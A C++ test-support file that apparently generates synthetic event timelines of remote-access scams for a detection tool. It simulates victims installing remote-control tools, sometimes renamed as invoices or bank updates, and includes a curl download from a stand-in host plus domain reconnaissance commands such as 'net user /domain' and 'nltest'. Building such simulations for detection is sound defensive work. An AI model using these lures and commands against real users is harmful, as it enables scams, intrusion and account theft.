// SPDX-FileCopyrightText: Callwake contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "support/scenario/parts.h"

#include "support/sample_case/teller.h"

namespace callwake::test {

using namespace std::chrono;

namespace {

constexpr std::string_view chrome = R"(C:\Program Files\Google\Chrome\Application\chrome.exe)";
constexpr std::string_view cmd = R"(C:\Windows\System32\cmd.exe)";

/// Where a tool is found, and what its file is called inside and out. Addresses are the makers'.
struct RemoteTool {
    std::string_view page;
    std::string_view title;
    std::string_view download;
    std::string_view file;
    std::string_view originalName; ///< empty: not known
    std::string_view service; ///< empty: it installs none
    std::string_view installed;
};

constexpr std::array<RemoteTool, 7> windowsTools{{
    {"https://anydesk.com/en/downloads/windows", "AnyDesk for Windows",
        "https://download.anydesk.com/AnyDesk.exe", "AnyDesk.exe", "AnyDesk.exe", "AnyDesk Service",
        R"(C:\Program Files (x86)\AnyDesk\AnyDesk.exe)"},
    {"https://helpline-care.screenconnect.com/", "Join your session",
        "https://helpline-care.screenconnect.com/Bin/ScreenConnect.ClientSetup.exe",
        "ScreenConnect.ClientSetup.exe", "", "ScreenConnect Client (0a1b2c3d4e5f6071)",
        R"(C:\Program Files (x86)\ScreenConnect Client (0a1b2c3d4e5f6071)\ScreenConnect.ClientService.exe)"},
    {"https://rustdesk.com/", "RustDesk",
        "https://github.com/rustdesk/rustdesk/releases/download/1.2.3/rustdesk-1.2.3-x86_64.exe",
        "rustdesk-1.2.3-x86_64.exe", "rustdesk.exe", "RustDesk",
        R"(C:\Program Files\RustDesk\rustdesk.exe)"},
    {"https://www.supremocontrol.com/", "Supremo",
        "https://www.nanosystems.it/public/download/Supremo.exe", "Supremo.exe", "Supremo.exe", "",
        ""},
    {"https://get.teamviewer.com/helpline", "TeamViewer quick support",
        "https://download.teamviewer.com/download/TeamViewerQS.exe", "TeamViewerQS.exe", "", "",
        ""},
    {"https://getscreen.me/", "Getscreen.me", "https://getscreen.me/download/getscreen.exe",
        "getscreen.exe", "getscreen.exe", "Getscreen.me",
        R"(C:\Program Files\Getscreen.me\getscreen.exe)"},
    {"https://www.logmein123.com/", "Rescue",
        "https://secure.logmeinrescue.com/Customer/Download/Support-LogMeInRescue.exe",
        "Support-LogMeInRescue.exe", "", "", ""},
}};

struct UnixTool {
    std::string_view page;
    std::string_view title;
    std::string_view download;
    std::string_view file;
    std::string_view package;
    std::string_view version;
    std::string_view program;
};

constexpr std::array<UnixTool, 3> linuxTools{{
    {"https://anydesk.com/en/downloads/linux", "AnyDesk for Linux",
        "https://download.anydesk.com/linux/anydesk_6.3.2-1_amd64.deb", "anydesk_6.3.2-1_amd64.deb",
        "anydesk", "6.3.2-1", "/usr/bin/anydesk"},
    {"https://rustdesk.com/", "RustDesk",
        "https://github.com/rustdesk/rustdesk/releases/download/1.2.3/rustdesk-1.2.3-x86_64.deb",
        "rustdesk-1.2.3-x86_64.deb", "rustdesk", "1.2.3", "/usr/bin/rustdesk"},
    {"https://www.teamviewer.com/en/download/linux/", "TeamViewer for Linux",
        "https://download.teamviewer.com/download/linux/teamviewer_amd64.deb",
        "teamviewer_amd64.deb", "teamviewer", "15.52.4", "/opt/teamviewer/tv_bin/TeamViewer"},
}};

constexpr std::array<UnixTool, 2> macTools{{
    {"https://anydesk.com/en/downloads/mac-os", "AnyDesk for macOS",
        "https://download.anydesk.com/anydesk.dmg", "anydesk.dmg", "AnyDesk", "8.0.1", ""},
    {"https://www.splashtop.com/downloads", "Splashtop downloads",
        "https://download.splashtop.com/mac/Splashtop_Streamer_Mac_v3.6.2.0.dmg",
        "Splashtop_Streamer_Mac_v3.6.2.0.dmg", "Splashtop Streamer", "3.6.2.0", ""},
}};

/// What whoever has the keyboard now types first.
void lookAroundWindows(Teller& teller, Random& random, Instant time)
{
    constexpr std::array<std::string_view, 6> commands{"whoami /all", "ipconfig /all",
        "net user /domain", "nltest /dclist:", "systeminfo", "tasklist /v"};
    for (int i = random.between(4, 6); i > 0; --i) {
        const std::string command(random.oneOf(commands));
        const std::string program = command.substr(0, command.find(' '));
        teller.run(time, R"(C:\Windows\System32\)" + program + ".exe", command, cmd);
        time += between(random, 4, 25);
    }
}

/// Nothing needs to be fetched; what follows is a script that the caller dictates.
void quickAssist(Teller& teller, Random& random, Instant time)
{
    teller.run(time, R"(C:\Windows\System32\quickassist.exe)", "quickassist.exe",
        R"(C:\Windows\explorer.exe)");
    const Instant begun = time + between(random, 60, 240);
    teller.run(begun, R"(C:\Windows\System32\curl.exe)",
        "curl.exe -o update.zip https://cdn-updates.example/k/update.zip", cmd);
    lookAroundWindows(teller, random, begun + between(random, 10, 60));
}

/// To rename one hides nothing where the file holds its own name.
const RemoteTool& anyTool(Random& random, bool knownByOriginalName)
{
    while (true)
        if (const RemoteTool& tool = random.oneOf(windowsTools);
            !knownByOriginalName || !tool.originalName.empty())
            return tool;
}

/// The victim fetches the tool and starts it; a renamed one comes from some place for files.
void fetchOnWindows(Plan& plan, Random& random, std::size_t victim, Variant variant, Instant time)
{
    const bool renamed = variant == Variant::RenamedTool;
    const RemoteTool& tool = anyTool(random, renamed);
    constexpr std::array<std::string_view, 4> innocent{
        "InvoiceViewer.exe", "SecureSession.exe", "RefundForm.exe", "BankUpdate.exe"};
    Teller teller(plan, victim);
    const std::string file(renamed ? random.oneOf(innocent) : tool.file);
    const std::string_view page = renamed ? "https://files-handover.example/d/7f3a" : tool.page;
    teller.visit(time, page, renamed ? "Your file is ready" : tool.title);
    teller.download(time + between(random, 10, 40),
        renamed ? "https://files-handover.example/get/7f3a" : tool.download, file, page);
    const std::string path = R"(C:\Users\)" + plan.people[victim].account + R"(\Downloads\)" + file;
    const Instant started = time + between(random, 50, 150);
    teller.run(started, path, '"' + path + '"', chrome);
    plan.acts.back().originalName = tool.originalName;
    if (!tool.service.empty() && variant != Variant::PortableTool && !renamed) {
        teller.service(started + 20s, tool.service, '"' + std::string(tool.installed) + '"');
        teller.run(started + 22s, tool.installed, '"' + std::string(tool.installed) + '"',
            R"(C:\Windows\System32\services.exe)");
        plan.acts.back().originalName = tool.originalName;
    }
    if (random.chance(60))
        lookAroundWindows(teller, random, started + between(random, 30, 120));
}

/// At a colleague's computer, from a memory stick: nothing is fetched there.
void runAtColleague(Plan& plan, Random& random, std::size_t victim, Instant time)
{
    std::size_t colleague = victim;
    while (colleague == victim || plan.people[colleague].platform != Platform::Windows)
        colleague = std::size_t(random.between(0, int(plan.people.size()) - 1));
    Teller teller(plan, victim);
    const auto first = plan.acts.size();
    const std::string path =
        R"(C:\Users\)" + plan.people[victim].account + R"(\Desktop\AnyDesk.exe)";
    teller.run(time, path, '"' + path + '"', R"(C:\Windows\explorer.exe)");
    lookAroundWindows(teller, random, time + between(random, 30, 120));
    for (auto i = first; i < plan.acts.size(); ++i)
        plan.acts[i].at = colleague;
}

void fetchOnLinux(Plan& plan, Random& random, std::size_t victim, Variant variant, Instant time)
{
    Teller teller(plan, victim);
    const std::string downloads = "/home/" + plan.people[victim].account + "/Downloads/";
    if (variant == Variant::PortableTool) {
        const std::string file = "rustdesk-1.2.3-x86_64.AppImage";
        teller.visit(time, "https://rustdesk.com/", "RustDesk");
        teller.download(time + 25s,
            "https://github.com/rustdesk/rustdesk/releases/download/1.2.3/" + file, file,
            "https://rustdesk.com/");
        teller.run(time + 70s, "/usr/bin/chmod", "chmod +x " + downloads + file, "/usr/bin/bash");
        teller.run(time + 80s, downloads + file, downloads + file, "/usr/bin/bash");
        return;
    }
    const UnixTool& tool = random.oneOf(linuxTools);
    const std::string file = downloads + std::string(tool.file);
    teller.visit(time, tool.page, tool.title);
    teller.download(time + between(random, 10, 40), tool.download, tool.file, tool.page);
    const Instant begun = time + between(random, 60, 150);
    teller.run(begun, "/usr/bin/sudo", "sudo apt install " + file, "/usr/bin/bash");
    teller.package(begun + 15s, tool.package, tool.version, "apt install " + file);
    teller.run(begun + between(random, 30, 60), tool.program, tool.program, "/usr/bin/bash");
}

void fetchOnMac(Plan& plan, Random& random, std::size_t victim, Instant time)
{
    const UnixTool& tool = random.oneOf(macTools);
    Teller teller(plan, victim);
    teller.visit(time, tool.page, tool.title);
    teller.download(time + between(random, 10, 40), tool.download, tool.file, tool.page);
    teller.package(time + between(random, 70, 200), tool.package, tool.version, "");
}

} // namespace

void planRemoteControl(
    Plan& plan, Random& random, std::size_t victim, Variant variant, Instant time)
{
    const Platform platform = plan.people[victim].platform;
    if (variant == Variant::AnothersComputer)
        return runAtColleague(plan, random, victim, time);
    if (platform == Platform::Linux)
        return fetchOnLinux(plan, random, victim, variant, time);
    if (platform == Platform::MacOs)
        return fetchOnMac(plan, random, victim, time);
    const bool asked = variant == Variant::RenamedTool || variant == Variant::PortableTool;
    if (!asked && random.chance(20)) {
        Teller teller(plan, victim);
        return quickAssist(teller, random, time);
    }
    fetchOnWindows(plan, random, victim, variant, time);
}

} // namespace callwake::test
